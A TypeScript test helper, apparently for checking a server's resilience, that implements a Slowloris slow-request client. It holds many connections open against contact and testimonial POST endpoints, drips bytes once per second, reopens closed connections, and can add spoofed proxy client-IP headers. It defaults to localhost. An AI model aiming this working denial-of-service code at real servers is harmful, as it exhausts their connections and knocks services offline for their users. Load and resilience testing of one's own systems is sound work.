import { createConnection, type Socket } from "node:net";

interface Dripping {
  port?: number;
  /** Concurrent bodies; closed ones are reopened. */
  bodies: number;
  from?: string;
  /** What drips: the body of a request, or its headers. */
  part?: "body" | "headers";
  /** Default: plain HTTP to that port of this machine. */
  connect?: () => Socket;
  /** Such as the client IP that a proxy adds. */
  header?: (number: number) => string;
}

export interface SlowSenders {
  open(): number;
  /** How many connections were made so far. */
  connected(): number;
  ended(): number;
  stop(): void;
}

/** Milliseconds between bytes, and before reopening. */
const BETWEEN = 1000;

const TARGETS = [
  "POST /api/contact HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 8000",
  "POST /api/testimonials/add HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked",
  "POST /contact-us HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 8000",
];

/** Slowloris client: headers at once, bodies byte by byte. */
export function sendSlowly({
  port,
  bodies,
  from = "127.0.0.1",
  part = "body",
  connect = () => createConnection({ port: port ?? 0, host: "127.0.0.1", localAddress: from }),
  header = () => "",
}: Dripping): SlowSenders {
  const sockets = new Set<Socket>();
  let connected = 0;
  let ended = 0;
  let stopped = false;
  const begin = (number: number) => {
    if (stopped) return;
    const target = TARGETS[number % TARGETS.length] ?? "";
    const socket = connect();
    const byte = part === "body" && target.endsWith("chunked") ? "1\r\n \r\n" : "x";
    const dripping = setInterval(() => socket.write(byte), BETWEEN);
    sockets.add(socket);
    socket.on("error", () => {}).on("data", () => socket.destroy());
    socket.once("close", () => {
      clearInterval(dripping);
      sockets.delete(socket);
      ended += 1;
      setTimeout(begin, BETWEEN, number);
    });
    socket.once("connect", () => (connected += 1));
    const unfinished = part === "body" ? "\r\n" : "X-Drip: ";
    socket.write(`${target}\r\nHost: localhost\r\n${header(number)}${unfinished}${byte}`);
  };
  for (let number = 0; number < bodies; number += 1) begin(number);
  return {
    open: () => sockets.size,
    connected: () => connected,
    ended: () => ended,
    stop() {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
